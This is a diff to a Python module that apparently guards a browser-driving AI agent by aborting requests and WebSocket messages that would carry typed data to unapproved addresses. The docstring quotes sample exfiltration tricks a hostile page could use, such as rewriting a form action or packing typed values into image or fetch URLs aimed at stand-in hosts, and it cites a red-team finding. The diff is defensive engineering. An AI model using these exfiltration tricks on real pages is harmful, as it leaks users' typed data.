@@ -4,11 +4,14 @@ The guard reviews a click or a key press on a page by where the page's forms pos
 from the page after the previous action) and the page's own address (``safety.flow``). A page can change that
 after the review: ``onsubmit="this.action='http://elsewhere/'"``, or a script that posts what was typed. So the
 browser itself holds the line: once the agent has typed into the page (typing, a key, a choice in a list:
-its data is in the page now; a ``browser_goto`` starts afresh), a request that carries data (a body, or a
-method other than GET/HEAD/OPTIONS) to an address that is neither the page's nor one its forms showed in the
-last observation, nor one the run went to with an approved ``browser_goto``, is aborted, and the observation
-says so. Plain GETs (links, images, scripts) and what a page sends before the agent typed anything into it
-(its own data) are left to the network sandbox (``network`` and ``allowed_hosts``).
+its data is in the page now; a ``browser_goto`` starts afresh), a request to an address that is neither the
+page's nor one its forms showed in the last observation, nor one the run went to with an approved
+``browser_goto``, is aborted, and the observation says so. That holds for GETs too (redteam10): a script can put
+what was typed into a URL (``new Image().src = 'http://x/?' + value``, ``fetch(url + '?q=' + value)``,
+``location = …``), so after the typing only a URL the page already requested before it (a resource loaded
+again: it cannot hold the typed text) may go to another address. A WebSocket to another address is refused
+the same way, and one opened before the typing may not send to it afterwards. What a page sends before the
+agent typed anything into it (its own data) is left to the network sandbox (``network`` and ``allowed_hosts``).
 """
 
 from __future__ import annotations
@@ -17,6 +20,7 @@ from typing import Any
 from urllib.parse import urlsplit
 
 _SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
+_MAX_BEFORE = 4000  # URLs remembered from before the typing
 
 
 def address(url: str) -> str:
@@ -37,9 +41,11 @@ class SendGate:
         self.gone: set[str] = set()  # addresses of approved browser_goto actions
         self.stopped: list[str] = []  # "METHOD URL" of each request aborted
         self.armed = False  # the agent typed into the page since the last browser_goto
+        self.before: set[str] = set()  # URLs requested since the last browser_goto, before any typing
 
     def went(self, url: str) -> None:
         self.armed = False
+        self.before.clear()
         if a := address(url):
             self.gone.add(a)
 
@@ -52,12 +58,35 @@ class SendGate:
     def route(self, route: Any) -> None:
         request = route.request
         method = str(request.method).upper()
-        if not self.armed or method in _SAFE_METHODS and not request.post_data_buffer:
+        if not self.armed:
+            if len(self.before) < _MAX_BEFORE:
+                self.before.add(request.url)
             route.fallback()
             return
-        dest = address(request.url)
-        if not dest or dest in self.shown or dest in self.gone:
+        if self._allowed(request.url) or (method in _SAFE_METHODS and not request.post_data_buffer
+                                          and request.url in self.before):
             route.fallback()
             return
         self.stopped.append(f"{method} {request.url[:200]}")
         route.abort("blockedbyclient")
+
+    def _allowed(self, url: str) -> bool:
+        dest = address(url)
+        return not dest or dest in self.shown or dest in self.gone
+
+    def route_ws(self, ws: Any) -> None:
+        """A WebSocket: refused to an address not shown once the agent typed; one opened before may not send
+        to such an address afterwards (its messages to the server are dropped and reported)."""
+        if self.armed and not self._allowed(ws.url):
+            self.stopped.append(f"WebSocket {ws.url[:200]}")
+            ws.close()
+            return
+        server = ws.connect_to_server()
+
+        def to_server(message: Any) -> None:
+            if self.armed and not self._allowed(ws.url):
+                self.stopped.append(f"WebSocket send {ws.url[:200]}")
+                return
+            server.send(message)
+
+        ws.on_message(to_server)
